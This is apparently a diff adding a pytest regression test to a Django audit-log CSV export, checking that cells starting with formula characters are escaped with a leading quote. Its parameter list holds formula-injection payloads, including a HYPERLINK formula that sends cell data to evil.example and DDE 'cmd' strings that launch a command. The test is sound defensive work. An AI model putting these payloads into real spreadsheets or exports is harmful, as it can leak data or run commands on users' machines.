@@ -5,6 +5,7 @@ from __future__ import annotations
 import base64
 import csv
 import io
+import json
 from datetime import timedelta
 
 import pytest
@@ -12,6 +13,7 @@ from django.http import StreamingHttpResponse
 from django.utils import timezone
 
 from audit.models import Category
+from audit.services import audit_event_record
 from smtp.models import Email, EmailAttempt, EmailKind, EmailStatus
 
 pytestmark = pytest.mark.django_db
@@ -214,6 +216,56 @@ def test_the_org_export_is_scoped_to_the_organization(demo, login, make_events):
     )
     assert len(rows) == 3
     assert {r["organization"] for r in rows} == {"acme-dev"}
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_csv_cells_that_spreadsheets_would_run_are_quoted(demo, login, hostile):
+    # given: tenant-controlled text at the start of the summary and actor cells
+    audit_event_record(
+        category=Category.AUDIT,
+        type="user.password_set",
+        summary=hostile,
+        actor=hostile,
+        partner_id=demo["acme"].pk,
+        organization_id=demo["acme-prod"].pk,
+        detail={"recipient": hostile},
+    )
+    audit_event_record(
+        category=Category.AUDIT,
+        type="user.password_set",
+        summary="Plain summary",
+        actor="org-admin@acme-prod.example",
+        partner_id=demo["acme"].pk,
+        organization_id=demo["acme-prod"].pk,
+    )
+    # when
+    rows = read_csv(
+        login(demo["prod_admin"]).get(WEB + "export.csv", {"category": "AUDIT"})
+    )
+    # then: the hostile cells are text (a leading quote), the others unchanged
+    by_summary = {row["summary"]: row for row in rows}
+    quoted = by_summary["'" + hostile]
+    assert quoted["actor"] == "'" + hostile
+    assert json.loads(quoted["detail"]) == {"recipient": hostile}
+    plain = by_summary["Plain summary"]
+    assert plain["actor"] == "org-admin@acme-prod.example"
+    assert plain["type"] == "user.password_set"
+    assert plain["organization"] == "acme-prod"
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for row in rows
+        for cell in row.values()
+    )
 
 
 def test_the_audit_pages_belong_to_their_consoles(demo, login):
